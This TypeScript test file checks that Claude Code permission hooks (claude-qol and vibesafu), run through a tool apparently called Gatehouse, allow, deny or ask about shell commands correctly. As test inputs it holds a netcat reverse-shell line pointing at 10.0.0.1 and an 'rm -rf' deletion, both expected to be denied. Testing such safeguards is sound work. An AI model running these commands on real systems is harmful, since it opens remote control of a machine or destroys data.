// Real Claude Code hooks published on npm that decide approvals, run unchanged through
// `gatehouse run`: claude-qol's PreToolUse allow / deny / ask and vibesafu's PermissionRequest
// answer to that ask. Wired as their docs say (see real-hooks-helpers.ts); no network.
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { gatehouse, tempProjects } from "./helpers.js";
import { gatehouseOnTerminal } from "./project-helpers.js";
import { claudeQol, onDemandBin, qolDecisions, settings } from "./real-hooks-helpers.js";

describe("@torka/claude-qol@0.3.0 auto-approve (PreToolUse allow / deny / ask) runs unchanged", {
  concurrency: 3,
}, () => {
  const fresh = tempProjects();
  const project = (command: string) => fresh(claudeQol(command));

  test("an allowlisted command is allowed and runs", async () => {
    const cwd = await project("git status; touch ran");
    const r = await gatehouse(["run", "-p", "status"], { cwd });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(existsSync(join(cwd, "ran")), true);
    assert.deepEqual(qolDecisions(cwd), ["allow"]);
  });

  test("a dangerous command is denied and the model reads the hook's reason", async () => {
    const cwd = await project("rm -rf build && touch ran");
    const r = await gatehouse(["run", "-p", "clean"], { cwd });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^model read: .*Command matches dangerous pattern/);
    assert.equal(existsSync(join(cwd, "ran")), false);
    assert.deepEqual(qolDecisions(cwd), ["deny"]);
  });

  test("ask defers to Gatehouse's approval: refused with the hook's reason without a terminal, run once the user says yes", async () => {
    const refused = await project("sh deploy.sh");
    const r = await gatehouse(["run", "-p", "deploy"], { cwd: refused });
    assert.equal(r.code, 0, r.stderr);
    // As in Claude Code with nobody to ask (`claude -p`): the model reads the hook's own reason.
    assert.equal(r.stdout, "model read: Command not in allowlist: sh deploy.sh\n");
    assert.equal(existsSync(join(refused, "deployed")), false);
    assert.deepEqual(qolDecisions(refused), ["ask"]);

    const approved = await project("sh deploy.sh");
    let answered = false;
    const onTerminal = await gatehouseOnTerminal(["run", "-p", "deploy"], {
      cwd: approved,
      env: { NO_COLOR: "1" },
      keepStdinOpen: true,
      onStderr: (soFar, child) => {
        if (!answered && soFar.includes("[y]es once")) answered = child.stdin?.write("y\r") ?? false;
      },
    });
    assert.ok(answered, onTerminal.stderr);
    assert.equal(onTerminal.code, 0, onTerminal.stderr);
    assert.equal(existsSync(join(approved, "deployed")), true);
  });
});

describe("vibesafu@0.1.27 (PermissionRequest) answers the approvals another hook asks for", { concurrency: 2 }, () => {
  const fresh = tempProjects();
  /**
   * vibesafu's installer writes `npx vibesafu check` on PermissionRequest, matcher "*", into the
   * user's settings. What asks is claude-qol's PreToolUse hook answering `ask` for a command off
   * its allowlist (Gatehouse asks for nothing else until it has permission rules).
   */
  const project = async (command: string) => {
    const cwd = await fresh(claudeQol(command));
    const home = await fresh({
      ".claude/settings.json": settings("PermissionRequest", "*", `"${await onDemandBin("vibesafu")}vibesafu" check`),
    });
    return { cwd, home };
  };

  test("a command it finds safe is approved by the hook: it runs and the user is never asked", async () => {
    const { cwd, home } = await project("sh deploy.sh");
    // On a terminal: with nobody to ask, Claude Code refuses a PreToolUse ask before any PermissionRequest.
    const r = await gatehouseOnTerminal(["run", "-p", "deploy"], { cwd, env: { HOME: home, NO_COLOR: "1" } });
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout + r.stderr, /\[y\]es once/);
    assert.equal(existsSync(join(cwd, "deployed")), true);
    assert.deepEqual(qolDecisions(cwd), ["ask"], "the approval was asked for");
  });

  test("a reverse shell is denied by the hook (after its review delay): the user is never asked, it does not run", async () => {
    const { cwd, home } = await project("nc -e /bin/sh 10.0.0.1 4444 || touch ran");
    // On a terminal, so that a question would be asked if the hook had not answered.
    const r = await gatehouseOnTerminal(["run", "-p", "connect"], { cwd, env: { HOME: home, NO_COLOR: "1" } });
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout + r.stderr, /\[y\]es once/);
    assert.equal(existsSync(join(cwd, "ran")), false);
    assert.deepEqual(qolDecisions(cwd), ["ask"]);
    // The model reads vibesafu's own message, as in Claude Code (docs/permissions.md).
    assert.match(r.stdout, /model read: .*\[vibesafu\] Auto-denied/s);
  });
});
